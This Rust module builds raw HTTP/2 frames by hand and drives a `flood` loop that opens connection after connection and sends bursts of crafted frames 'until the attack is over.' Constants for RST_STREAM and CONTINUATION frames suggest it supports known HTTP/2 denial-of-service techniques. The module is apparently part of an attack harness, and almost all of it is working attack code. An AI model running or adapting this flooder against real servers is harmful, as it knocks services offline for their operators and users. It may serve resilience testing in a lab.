//! HTTP/2 by hand (RFC 9113): what no library would send.

use crate::arena::Arena;
use std::io::{Read, Write};
use std::net::TcpStream;

pub(crate) const HEADERS: u8 = 1;
pub(crate) const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
pub(crate) const CONTINUATION: u8 = 9;
pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;

/// `GET / HTTP/2`, by the static table of RFC 7541, appendix A, and the authority `x`.
pub(crate) const REQUEST: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'x'];

/// A frame (section 4.1).
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A connection that has begun, by prior knowledge on cleartext (section 3.3). What the server says is read and thrown away.
pub(crate) fn begin(arena: &Arena) -> TcpStream {
    let mut stream = arena.connect();
    let _ = stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    let _ = stream.write_all(&frame(SETTINGS, 0, 0, &[]));
    let mut ear = stream.try_clone().unwrap();
    std::thread::spawn(move || {
        let mut heard = [0; 4096];
        while matches!(ear.read(&mut heard), Ok(1..)) {}
    });
    stream
}

/// Sends what `next` gives, in bursts, on one connection after another, until the attack is over.
pub(crate) fn flood(arena: &Arena, next: impl Fn(u32) -> Vec<u8>) {
    while arena.goes_on() {
        let mut stream = begin(arena);
        for number in 0.. {
            if !arena.goes_on() || stream.write_all(&next(number)).is_err() {
                break;
            }
            arena.blow();
        }
    }
}
